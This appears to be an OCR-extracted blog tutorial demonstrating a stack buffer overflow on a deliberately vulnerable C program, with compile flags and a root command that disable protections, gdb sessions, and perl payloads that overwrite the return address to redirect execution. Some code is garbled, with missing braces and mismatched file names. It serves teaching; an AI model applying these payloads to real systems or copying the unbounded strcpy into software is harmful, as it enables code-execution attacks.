A Simple Demonstration of Buffer Overflow Vulnerability

Introduction :

"In computer security and programming, a buffer overflow, or buffer overrun, is an anomaly where a program, while writing data to a buffer, overruns the buffer's boundary and overwrites adjacent  memory locations."   -- wikipedia

Buffer Overflow is a condition where the data transferred to a particular buffer, exceeds the storage capacity of the allocated buffer and some of the data "overflows" into anotherbuffer and corrupts that buffer's data. It is a common software coding mistake. Generally a buffer overflow vulnerability can be lead to program crash or it can be also used to execute arbitrary code in the system.

Prerequisites :

i am assuming you are familiar with linux command line, gcc, gdb and basic C programming. Here a diagram of how a process layout in computer memory.

Image Source : http://static.duartes.org/img/blogPosts/linuxClassicAddressSpaceLayout.png

for more detail on Process layout visit link : http://duartes.org/g......rogram-in-memory/

You also need to understand how stack-frame is build when a function is called and destroyed when function returns. for details check out the link : http://www.csee.umbc.edu/~c.....stack.shtml

Some Important Registers :
ESP (Extended Stack Pointer) : Points to the Top of the stack.
EBP (Extended Base Pointer)  : Points to the Bottom or Base of the stack.
EIP  (Instruction Pointer) : It holds the address of the next CPU instruction to be executed.Demonstration  :

This is our demo code :
1:   // bof.c
2:   #include <stdio.h>
3:   int main(int argc, char *argv[]) {
4:     char buffer[512];
5:     if(argc < 2) exit(0);
6:     strcpy(buffer, argv[1]);
7:     printf("%s\n", buffer);
8:     return 0;
9:   }
In above code the strcpy() function in line 6 is vulnerable to buffer overflow, because it copies the given data into the destination buffer without bound checking. Now compile the above code with following arguments
 gcc -mpreferred-stack-boundary=2 -z execstack -fno-stack-protector -o bof1 bof1.c -ggdb

the above arguments are disable the modern security schemes, 'mpreferred-stack-boundary=2' sets the stack boundary to 4 byte, '-z execstack' disable the non-executable stack and 'fno-stack-protector' disable stack protection. For this demo i am using a lubuntu 14.04 i386 desktop, so i need to disable ASLR protection. To disable ASLR type following command on terminal
 sudo su
 echo 0 >/proc/sys/kernel/Randomize_va_space
and if you want to re-enable it then type
 echo 2 > /proc/sys/kernel/Randomize_va_space
To check weather it is disable or not, use the following command
 cat /proc/self/maps
run the above command at least two times, the output of the above command will be

if ASLR is disabled then the address values for stack will remain same each time.Now lets try to run our compiled binary
 ajay@SecLab2:~$ ./bof hello
the program will gracefully exit. Our code allocates 512 bytes for buffer array. So lets try with 512 bytes of characters
 ajay@SecLab2:~$ ./bof `perl -e 'print "\x41"x512'`
 ajay@SecLab2:~$ ulimit -c unlimited
 ajay@SecLab2:~$ ./bof `perl -e 'print "\x41"x520'`
 Segmentation fault (core dumped)
 ajay@SecLab2:~$ gdb -q -c core
 [New LWP 4697]
 Program terminated with signal SIGSEGV, Segmentation fault.#0  0x41414141 in ?? ()
 (gdb) bt
 #0  0x41414141 in ?? ()
 #1  0x00000000 in ?? ()
 (gdb) i r eip
 eip            0x41414141 0x41414141
When we increase the size of our input by 8 bytes, the Eip register will overwritten by "\x41414141" which is nothing but 'AAAA'. At above ' ulimit -c unlimited ' command is used to get the core dump. Now lets examine our program bof with gdb. First start gdb and set the breakpoint at strcpy() function
 ajay@SecLab2:~$ gdb -q bof
 Reading symbols from bof...done.
 (gdb) list 1
 1    // bof.c
 2    #include <stdio.h>
 3    int main(int argc, char *argv[]) {
 4        char buffer[512];
 5        if(argc < 2) exit(0);
 6        strcpy(buffer, argv[1]);
 7        printf("%s\n", buffer);
 8        return 0;
 9    }
 (gdb) break 6
 Breakpoint 1 at 0x8048498: file bof.c, line 6.(gdb) run `perl -e 'print "\x41"x512'`
 Starting program: /home/ajay/bof `perl -e 'print "\x41"x512'`
 Breakpoint 1, main (argc=2, argv=0xbffff034) at bof.c:6
 6        strcpy(buffer, argv[1]);
 (gdb) x &buffer
 0xbfffed98:    0xb7fff000
 (gdb) x/8xw $esp
 0xbfffed90:    0x000000010xb7fd9858    0xb7fff000    0xb7fe8b9b
 0xbfffeda0:    0xb7ffe000    0x00001000    0x00000001    0xb7fe8b5c
 (gdb) p/x &buffer
 $6 = 0xbfffed98
 (gdb) x/xw buffer
 0xbfffed98: 0xb7fff000
 (gdb) x/xw $esp+8
 0xbfffed98: 0xb7fff000
at this point the buffer array will hold garbage values '0x00020f30'. Lets look at rest of stack frame
 (gdb) x/8xw $esp + 8 + 512
   0xbfffef98: 0x00000000 0xb7e32af3 0x00000002 0xbffff034
   0xbfffefa8: 0xbffff040 0xb7feccca 0x00000002 0xbffff034(gdb) x/8xw $ebp
   0xbfffef98: 0x00000000 0xb7e32af3 0x00000002 0xbffff034
   0xbfffefa8: 0xbffff040 0xb7feccca 0x00000002 0xbffff034
 (gdb) disas 0xb7e32af3
 Dump of assembler code for function __libc_start_main:
   0xb7e32a00 <+0>:    push  %ebp
   0xb7e32a01 <+1>:    push  %edi
   0xb7e32a02 <+2>:    push  %esi
   0xb7e32a03 <+3>:    push  %ebx
   0xb7e32a04 <+4>:    call  0xb7f3f7db <__x86.get_pc_thunk.bx>
   0xb7e32a09 <+9>:    add  $0x1915f7,%ebx
   0xb7e32bae <+430>:    mov  %edx,0x4(%esp)0xb7e32bb2 <+434>:    lea  -0x4b144(%ebx),%edx
   0xb7e32bb8 <+440>:    mov  %edx,(%esp)
   0xb7e32bbb <+443>:    call  *0x1a4(%eax)
   0xb7e32bc1 <+449>:    jmp0xb7e32a69 <__libc_start_main+105>
 End of assembler dump.
 (gdb) next
  7        printf("%s\n", buffer);
 (gdb) x/8xw $esp
   0xbfffed90:    0xbfffed98    0xbffff20e    0x41414141    0x41414141
   0xbfffeda0:    0x41414141    0x41414141    0x41414141    0x41414141
 (gdb) x/8xw $esp+512
   0xbfffef90:    0x41414141    0x41414141    0x00000000    0xb7e32af3
   0xbfffefa0:    0x00000002    0xbffff034    0xbffff040    0xb7feccca
 (gdb) continue
 [Inferior 1 (process 4672) exited normally]At this point the current stack is look like this :

as we know ebp or base pointer points to the base of the current stack, at ebp+4 there is an address of _libc _start_main function which is nothing but the return address from the current stack. With 520 bytes of input string we are able to overwrite the return address, where last 4 bytes will be land on the return address. lets try it
 (gdb) run `perl -e 'print "\x41"x516 . "\x42"x4'`
 The program being debugged has been started already.
 Start it from the beginning? (y or n) y
 Starting program: /home/ajay/bof `perl -e 'print "\x41"x516 . "\x42"x4'`
 Breakpoint 1, main (argc=2,argv=0xbffff034) at bof.c:6
 6        strcpy(buffer, argv[1]);
 (gdb) next
 7        printf("%s\n",buffer);
 (gdb) x/8xw $esp+512
 0xbfffef90:    0x41414141    0x41414141    0x41414141    0x42424242
 0xbfffefa0:    0x00000000    0xbffff034    0xbffff040    0xb7feccca
 (gdb) x/8xw $ebp
 0xbfffef98:    0x41414141    0x42424242    0x00000000    0xbffff034
 0xbfffefa8:    0xbffff040    0xb7feccca    0x00000002    0xbffff034
 (gdb) continue
 Program received signal SIGSEGV, Segmentation fault.
 0x42424242 in ?? ()
 (gdb) bt
 #0 0x42424242 in ?? ()
 #1 0x00000000 in ?? ()
Now we are able to control the flow of execution by overwriting the return address with our provided value. Here is themodified version of bof.c to test this scenario
 // bof.c
 #include <stdio.h>
 void NeverExecute(void) {
     printf("This function Should never Execute.\n");
 int main(int argc, char *argv[]) {
     char buffer[512];
     if(argc < 2) exit(0);
     strcpy(buffer, argv[1]);
     printf("%s\n", buffer);
     return 0;
At above program NeverExecute() function will be never called by main function. So if we overwrite the return address with the address of NeverExecute() then we are able redirect the execution flow to NeverExecute()
 ajay@SecLab2:~$ gdb -q bofReading symbols from bof...done.
 (gdb) disas NeverExecute
 Dump of assembler code for function NeverExecute:
   0x0804847d <+0>:    push  %ebp
   0x0804847e <+1>:    mov  %esp,%ebp
   0x08048480 <+3>:    sub  $0x4,%esp
   0x08048483 <+6>:    movl  $0x8048580,(%esp)
   0x0804848a <+13>:    call  0x8048340 <puts@plt>
   0x0804848f <+18>:    movl  $0x0,(%esp)0x08048496 <+25>:    call  0x8048360 <exit@plt>
 End of assembler dump.
the address of NeverExecute() is 0x0804847d, and remember we need to writethe address in reverse order, because i386supports little-endian byte-order.
 ajay@SecLab2:~$ ./bof `perl -e 'print "\x41"x516 . "\x7d\x84\x04\x08"'`This function Should never Execute.
 ajay@SecLab2:~$ echo $?We have successfully overwrite the return address with address of NeverExecute(). instead of executing default program instruction we can also inject and execute our own code. This is the very basic example of stack buffer overflow. In the next post we will look athow to inject and execute shellcode into the programs buffer.